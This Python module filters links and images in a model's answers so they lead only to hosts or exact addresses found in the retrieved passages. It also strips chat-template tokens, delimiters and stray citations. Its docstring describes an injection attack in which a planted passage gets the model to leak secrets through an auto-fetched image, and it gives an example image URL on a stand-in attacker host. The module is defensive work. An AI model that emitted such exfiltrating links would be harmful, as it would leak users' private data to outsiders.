"""Links and images in an answer lead only where its passages do.

A model that read a planted passage can be made to write an image whose address carries what
it knows (`![x](https://evil.example/p.png?q=secret)`): a client that renders Markdown fetches
it without a click. So an image (Markdown, reference definition or an HTML tag that fetches)
stays only when its exact address is in the passages; a link stays when its host is named in
them and otherwise becomes its text; a bare address to another host is cut down to that host
name. Citation markers to passages that were not given, our passage delimiters and chat-template
tokens are dropped. The filter works on decided text: `undecided_from` says where a stream must
hold text back until a construct closes."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Collection

# A stream holds an open construct at most this long; past it the text goes out as it is and
# the bare-address pass still cuts any address in it to its host.
HOLD_LIMIT = 2000

_SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_AUTHORITY = re.compile(r"^\s*(?:(?:https?):)?//([^/?#\s]*)", re.IGNORECASE)
_INLINE = re.compile(
    r"(!?)\[((?:[^\[\]]|\[[^\[\]]*\]){0,1000})\]"
    r"\(\s*(<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()]*)*)"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
_DEFINITION = re.compile(
    r"^ {0,3}\[[^\[\]]{1,999}\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)[^\n]*(?:\n|$)", re.MULTILINE
)
_TAG = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9:-]*)((?:[^<>\"']|\"[^\"]*\"|'[^']*'){0,2000})>")
_TOKEN = re.compile(r"<\|[^<>|]{0,64}\|>|\[/?INST\]|<</?SYS>>")
_MARKER = re.compile(r"\s?\[\^?(\d{1,3})\](?![(\[:])")
# Bare addresses a renderer turns into links (GFM autolinks), and protocol-relative ones in
# attribute or destination position.
_BARE = re.compile(
    r"(?:(?<![A-Za-z0-9])(?i:https?://|www\.)|(?<=[=(\"'])//)[^\s<>\"'`()\[\]{}\x7f-\U0010ffff]+"
)
# Addresses in a tag's attributes: absolute or protocol-relative anywhere (style url() too),
# and attribute values that are paths or scripts.
_ATTRIBUTE_URL = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:)?//[^\s\"'<>()]+"
    r"|(?<==)\s*[\"']?\s*(?:/|(?:javascript|vbscript|data|file):)[^\s\"'<>]*",
    re.IGNORECASE,
)
# What makes a reference definition's destination an address rather than the words of a
# line such as "[1]: Note: ...".
_ADDRESS = re.compile(
    r"^<?\s*(?:(?:https?|ftp|javascript|vbscript|data|file|mailto):|/|www\.)", re.IGNORECASE
)
_FETCHING_TAGS = frozenset(
    "img image picture source video audio track iframe frame embed object script link input "
    "svg use style meta base form".split()
)
_DELIMITER_TAGS = frozenset({"passage", "passages", "system", "im_start", "im_end"})
_TRAILING_ASCII = re.compile(r"\s?[!-~]*\Z")
# The last line of a stream that may still become a reference definition, and a definition
# line whose destination is on the next line.
_OPEN_DEFINITION = re.compile(r" {0,3}\[[^\[\]\n]*\](?::[ \t]*(?:<[^>\n]*|\S*))?\Z")
_BARE_DEFINITION = re.compile(r" {0,3}\[[^\[\]\n]+\]:[ \t]*\n")


def _unbracket(url: str) -> str:
    url = url.strip()
    return url[1:-1] if url.startswith("<") and url.endswith(">") else url


def host_of(url: str) -> str | None:
    """The host an absolute or protocol-relative address leads to; None for a relative one."""
    match = _AUTHORITY.match(url)
    if match is None:
        return None
    host = match.group(1).rsplit("@", 1)[-1].lower()
    host = host[1:].split("]", 1)[0] if host.startswith("[") else host.split(":", 1)[0]
    return host.rstrip(".")


class Allowed:
    """What the passages name: hosts (matched as whole names) and exact addresses."""

    def __init__(self, text: str) -> None:
        self._text = text
        self._lower = text.lower()

    def host(self, host: str) -> bool:
        if not host:
            return False
        pattern = rf"(?<![\w.-]){re.escape(host)}(?![\w-]|\.[\w-])"
        return re.search(pattern, self._lower) is not None

    def link(self, url: str) -> bool:
        url = _unbracket(url)
        if url.startswith("www."):
            url = "//" + url
        host = host_of(url)
        if host is not None:
            return self.host(host)
        # Relative addresses (an anchor, a path) lead nowhere else; other schemes
        # (javascript:, data:, mailto:) are not kept.
        return _SCHEME.match(url) is None

    def image(self, url: str) -> bool:
        url = _unbracket(url)
        return host_of(url) is not None and url in self._text


class LinkFilter:
    """One answer's filter; counts what it removed in `removed`."""

    def __init__(self, allowed: Allowed, numbers: Collection[int]) -> None:
        self._allowed = allowed
        self._numbers = numbers
        # `<a>` tags dropped whose `</a>` is still to come.
        self._dropped_anchors = 0
        self.removed: Counter[str] = Counter()

    def apply(self, text: str) -> str:
        """Filter decided text (a whole answer, or a stream's prefix `undecided_from` allows)."""
        text = _TOKEN.sub(lambda m: self._drop("token"), text)
        text = _TAG.sub(self._tag, text)
        text = _DEFINITION.sub(self._definition, text)
        text = self._inline(text)
        text = _MARKER.sub(self._marker, text)
        return _BARE.sub(self._bare, text)

    def _drop(self, what: str) -> str:
        self.removed[what] += 1
        return ""

    def _tag(self, match: re.Match[str]) -> str:
        closing, name, attributes = match.group(1), match.group(2).lower(), match.group(3)
        if name in _DELIMITER_TAGS:
            return self._drop("token")
        if closing:
            if name == "a" and self._dropped_anchors:
                self._dropped_anchors -= 1
                return ""
            return match.group(0)
        if name.endswith(":"):  # an autolink, <https://host/...>
            url = name + attributes
            if self._allowed.link(url):
                return match.group(0)
            self.removed["link"] += 1
            return host_of(url) or ""
        urls = [u.strip(" \"'") for u in _ATTRIBUTE_URL.findall(attributes)]
        if name in _FETCHING_TAGS:
            if all(self._allowed.image(u) for u in urls):
                return match.group(0)
            return self._drop("image")
        if all(self._allowed.link(u) for u in urls):
            return match.group(0)
        if name == "a" and not attributes.rstrip().endswith("/"):
            self._dropped_anchors += 1
        return self._drop("link")

    def _definition(self, match: re.Match[str]) -> str:
        """A definition may serve an image, so it is held to the image rule."""
        destination = match.group(1)
        if not _ADDRESS.match(destination) or self._allowed.image(destination):
            return match.group(0)
        return self._drop("link")

    def _inline(self, text: str) -> str:
        def replace(match: re.Match[str]) -> str:
            bang, label, url = match.group(1), match.group(2), match.group(3)
            if bang:
                return match.group(0) if self._allowed.image(url) else self._drop("image")
            inner = self._inline(label)
            if self._allowed.link(url):
                return match.group(0).replace(label, inner, 1)
            self.removed["link"] += 1
            return inner

        return _INLINE.sub(replace, text)

    def _marker(self, match: re.Match[str]) -> str:
        return match.group(0) if int(match.group(1)) in self._numbers else self._drop("citation")

    def _bare(self, match: re.Match[str]) -> str:
        url = match.group(0)
        kept = url.rstrip(".,;:!?*_~")
        if self._allowed.link(kept):
            return url
        self.removed["link"] += 1
        return (host_of(kept if "//" in kept else "//" + kept) or "") + url[len(kept) :]


def undecided_from(text: str) -> int:
    """Where the part of `text` begins that later text could still turn into a link, an image
    or a tag: an open `[` or `![`, a `](` whose `)` has not come, an unclosed `<`, a line that
    may be a reference definition, or the trailing word (an address may go on). The cut never
    falls inside a construct that is already closed."""
    n = len(text)
    cut = _TRAILING_ASCII.search(text).start()  # type: ignore[union-attr]
    closed = [m.span() for m in _TAG.finditer(text)] + [m.span() for m in _TOKEN.finditer(text)]
    stack: list[int] = []
    i = 0
    while i < n:
        c = text[i]
        if c == "[":
            stack.append(i)
        elif c == "]" and stack:
            start = _with_bang(text, stack.pop())
            if i + 1 == n:
                cut = min(cut, start)
            elif text[i + 1] == "(":
                close = _closing_paren(text, i + 1)
                if close is None:
                    cut = min(cut, start)
                    break
                closed.append((start, close + 1))
                i = close
            else:
                closed.append((start, i + 1))
        elif c == "\n" and text.startswith("\n", i + 1):
            stack.clear()  # a blank line ends any link
        i += 1
    if stack:
        cut = min(cut, _with_bang(text, stack[0]))
    opened = text.rfind("<")
    if opened >= 0 and ">" not in text[opened:]:
        following = text[opened + 1 : opened + 2]
        if not following or following.isalpha() or following in "/!|":
            cut = min(cut, opened)
    line = text.rfind("\n") + 1
    if _OPEN_DEFINITION.match(text, line):
        cut = min(cut, line)
    previous = text.rfind("\n", 0, max(line - 1, 0)) + 1
    if line and _BARE_DEFINITION.fullmatch(text, previous, line):
        cut = min(cut, previous)
    moved = True
    while moved:
        moved = False
        for start, end in closed:
            if start < cut < end:
                cut, moved = start, True
    if n - cut > HOLD_LIMIT:
        trailing = _TRAILING_ASCII.search(text).start()  # type: ignore[union-attr]
        cut = trailing if n - trailing <= HOLD_LIMIT else n
    return cut


def _with_bang(text: str, start: int) -> int:
    return start - 1 if start and text[start - 1] == "!" else start


def _closing_paren(text: str, opened: int) -> int | None:
    depth = 0
    for j in range(opened, min(len(text), opened + HOLD_LIMIT)):
        if text[j] == "(":
            depth += 1
        elif text[j] == ")":
            depth -= 1
            if depth == 0:
                return j
    return None
